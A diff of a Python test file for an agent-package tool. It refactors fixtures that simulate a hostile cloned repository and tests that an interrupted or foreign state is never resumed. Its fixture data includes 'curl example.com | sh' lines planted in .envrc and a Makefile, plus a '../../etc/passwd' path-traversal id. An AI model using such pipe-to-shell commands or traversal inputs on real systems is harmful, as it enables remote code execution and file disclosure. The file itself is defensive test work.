@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 from faults.scene import roots
 from support.crashing_disk import CrashingDisk, in_a_child
+from support.hostile_state import LOOKING, SENSITIVE, attack, calls, stopped_at
 from support.packs import BODY, make_pack, persona_text, publish
 from support.running import Agentpack, Ran
 from support.trees import STATE, Mark, marks, tree
@@ -23,44 +24,20 @@ from agentpack.apply import Step, recover, transact
 from agentpack.disk import Disk
 from agentpack.disk.known import Known
 from agentpack.fast import clean_scope
-from agentpack.model.history import Generation
+from agentpack.model.history import Document, Generation
 from agentpack.model.names import digest_of
 from agentpack.store import Store
 from agentpack.store.process_lock import process_lock
 
 AGENT = ".claude/agents/reviewer.md"
-LOOKING = (
-    ("status",),
-    ("diff",),
-    ("diff", "--upgrade"),
-    ("show", "crew"),
-    ("explain", "reviewer"),
-    ("history",),
-    ("history", "show", "1"),
-    ("history", "prune", "--dry-run"),
-    ("sync", "--check"),
-    ("sync", "--dry-run"),
-    ("lock", "--check"),
-    ("upgrade", "--check"),
-    ("upgrade", "--dry-run"),
-    ("install", "other", "--dry-run"),
-    ("uninstall", "crew", "--dry-run"),
-    ("rollback", "--dry-run"),
-    ("keep", "reviewer", "--patch"),
-    ("audit",),
-    ("policy", "explain"),
-    ("doctor",),
-)
-SENSITIVE = {
-    ".claude/settings.json": b'{"hooks": {}}\n',
-    ".envrc": b"curl example.com | sh\n",
-    ".vscode/tasks.json": b"{}\n",
-    ".github/workflows/ci.yaml": b"on: push\n",
-    "Makefile": b"all:\n\tcurl example.com | sh\n",
-    ".claude/agents/planted.md": b"---\nname: planted\ndescription: x\n---\nHi.\n",
-}
 GENERATION = Generation(
-    number=1, parent=0, time="2026-11-23T10:00:00Z", command="install", pins=(), files=(), documents=()
+    number=1,
+    parent=0,
+    time="2026-11-23T10:00:00Z",
+    command="install",
+    pins=(),
+    files=(),
+    documents=(Document("a.md", digest_of(b"a\n"), 0o644),),
 )
 
 
@@ -82,36 +59,6 @@ def clone(agentpack: Agentpack, project: Path) -> Path:
     return project
 
 
-def attack(project: Path, disk: Disk) -> None:
-    """What the journal of a hostile clone says: files that run programs, a file that goes."""
-    store = Store(disk)
-    with process_lock(disk):
-        recover(disk, store)
-        steps = [Step(path, None, data, mode=0o755) for path, data in SENSITIVE.items()]
-        steps.append(Step("README.md", digest_of((project / "README.md").read_bytes()), None))
-        transact(disk, store, steps=steps, generation=GENERATION)
-
-
-def _stopped_at(number: int, project: Path) -> None:
-    """The state that a change leaves which is killed at a call; what it did to the other files is taken back."""
-    with tempfile.TemporaryDirectory() as kept:
-        shutil.copytree(project, f"{kept}/project", symlinks=True)
-        in_a_child(partial(attack, project, CrashingDisk(roots(project), stop_after=number, sync=False)))
-        shutil.copytree(project / STATE, f"{kept}/state", symlinks=True)
-        shutil.rmtree(project)
-        shutil.copytree(f"{kept}/project", project, symlinks=True)
-        shutil.copytree(f"{kept}/state", project / STATE, symlinks=True)
-
-
-def _calls(project: Path) -> list[str]:
-    """What the change of a hostile clone asks of the disk."""
-    with tempfile.TemporaryDirectory() as folder:
-        copy = Path(shutil.copytree(project, f"{folder}/copy"))
-        disk = CrashingDisk(roots(copy), sync=False)
-        attack(copy, disk)
-        return disk.calls
-
-
 def _no_state(words: str) -> str:
     """What a command said, without the note about the state."""
     lines = words.splitlines(keepends=True)
@@ -130,8 +77,8 @@ def every_mark(folder: Path) -> dict[str, Mark]:
 
 
 def _decided(project: Path) -> None:
-    renames = [number for number, call in enumerate(_calls(project)) if call == "rename"]
-    _stopped_at(renames[1] + 2, project)  # the first one is of the state's `.gitignore`
+    renames = [number for number, call in enumerate(calls(project)) if call == "rename"]
+    stopped_at(renames[1] + 2, project)  # the first one is of the state's `.gitignore`
     assert (project / STATE / "journal").exists()
 
 
@@ -185,13 +132,13 @@ def _a_pipe(project: Path) -> None:
 
 
 def _with_a_long_history(project: Path) -> None:
-    _stopped_at(10_000, project)
+    stopped_at(10_000, project)
     (project / STATE / "current").write_bytes(b"9\n")
 
 
 BROUGHT: Mapping[str, Callable[[Path], None]] = {
     "a decided change": _decided,
-    "a change that counts": partial(_stopped_at, 10_000),
+    "a change that counts": partial(stopped_at, 10_000),
     "an empty id": _with_a_strange_id(b""),
     "an id nobody knows": _with_a_strange_id(b"0" * 32 + b"\n"),
     "an id that is a path": _with_a_strange_id(b"../../../../../../../../etc/passwd"),
@@ -229,10 +176,11 @@ def test_state_that_came_with_a_clone_counts_as_absent_and_stays_as_it_is(
 def test_an_interrupted_change_that_came_along_is_never_gone_on_with_wherever_it_stopped(
     agentpack: Agentpack, clone: Path
 ) -> None:
-    fresh, calls = agentpack("diff", expect=None), _calls(clone)
-    for number in range(len(calls) + 1):
+    few = partial(attack, paths=SENSITIVE[::8])
+    fresh, count = agentpack("diff", expect=None), len(calls(clone, few))
+    for number in range(count + 1):
         shutil.rmtree(clone / STATE, ignore_errors=True)
-        _stopped_at(number, clone) if number > 1 else None
+        stopped_at(number, clone, few) if number > 1 else None
         before = every_mark(clone)
         ran = agentpack("diff", expect=None)
         assert (ran.exit_code, ran.out, _no_state(ran.err)) == (fresh.exit_code, fresh.out, fresh.err)
@@ -250,7 +198,7 @@ def test_the_first_change_moves_a_foreign_state_aside_with_every_byte(
     assert "`state-unknown-1`" in ran.err
     if kept is not None:
         assert every_mark(clone / f"{STATE}-unknown-1") == kept
-    assert not SENSITIVE.keys() & tree(clone).keys()
+    assert not {*SENSITIVE} & tree(clone).keys()
     assert (clone / "README.md").exists()
     after = agentpack("history", "--json")
     assert "was not made by you" not in after.err
